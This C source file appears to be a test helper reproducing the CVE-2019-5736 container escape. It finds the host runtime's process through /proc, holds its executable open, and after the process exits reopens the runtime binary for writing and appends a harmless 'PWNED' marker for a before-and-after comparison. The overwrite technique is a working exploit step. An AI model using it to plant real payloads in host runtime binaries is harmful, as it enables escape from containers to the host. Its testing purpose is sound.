/*
 * exegrab SECONDS: what a hostile process in a container does to reach the
 * runtime's own binary (CVE-2019-5736).  It watches /proc for a process
 * whose executable is neither busybox nor itself (the runtime, run as the
 * interpreter of a script planted in the image), holds its /proc/PID/exe
 * open with O_PATH, and once that process is gone (no ETXTBSY any more)
 * reopens the file for writing and appends to it.
 *
 * Prints one line per step: "exe PATH" (what the link showed), "ino
 * DEV:INO" (the file it leads to), then
 * "open-write ok|ERRNO" and "write ok|ERRNO", or "none" if nothing was
 * found in time.  The test compares the runtime binary before and after.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* A process running something that is not busybox or us: its exe, held. */
static int find_foreign(const char *self, pid_t *pid, char *link, size_t size)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int fd = -1;
	while (d && fd < 0 && (e = readdir(d))) {
		char path[64];
		long p = strtol(e->d_name, NULL, 10);
		if (p <= 0 || p == getpid())
			continue;
		snprintf(path, sizeof path, "/proc/%ld/exe", p);
		ssize_t n = readlink(path, link, size - 1);
		if (n <= 0)
			continue;
		link[n] = 0;
		if (!strcmp(link, self) || strstr(link, "busybox"))
			continue;
		fd = open(path, O_PATH | O_CLOEXEC);
		*pid = (pid_t)p;
	}
	if (d)
		closedir(d);
	return fd;
}

int main(int argc, char **argv)
{
	char self[PATH_MAX], link[PATH_MAX], fdpath[64];
	double end = now() + (argc > 1 ? atof(argv[1]) : 10);
	pid_t pid = 0;
	int fd = -1;

	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	self[n > 0 ? n : 0] = 0;
	setvbuf(stdout, NULL, _IONBF, 0);
	printf("watching\n");
	while (fd < 0 && now() < end)
		fd = find_foreign(self, &pid, link, sizeof link);
	if (fd < 0) {
		printf("none\n");
		return 0;
	}
	struct stat st;
	printf("exe %s\n", link);
	if (fstat(fd, &st) == 0)
		printf("ino %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	while (kill(pid, 0) == 0 && now() < end)
		usleep(1000);
	snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
	int w = -1, e = 0;
	while (now() < end) {  /* ETXTBSY while anything still runs it */
		w = open(fdpath, O_WRONLY | O_CLOEXEC);
		e = errno;
		if (w >= 0 || e != ETXTBSY)
			break;
		usleep(2000);
	}
	if (w < 0) {
		printf("open-write %s\n", strerror(e));
		return 0;
	}
	printf("open-write ok\n");
	/* appended, not over the ELF header: a runtime binary made unrunnable
	 * would be run as a shell script by the next execvp() (ENOEXEC) */
	struct stat tail;
	if (fstat(w, &tail) == 0 && pwrite(w, "PWNED", 5, tail.st_size) == 5)
		printf("write ok\n");
	else
		printf("write %s\n", strerror(errno));
	return 0;
}
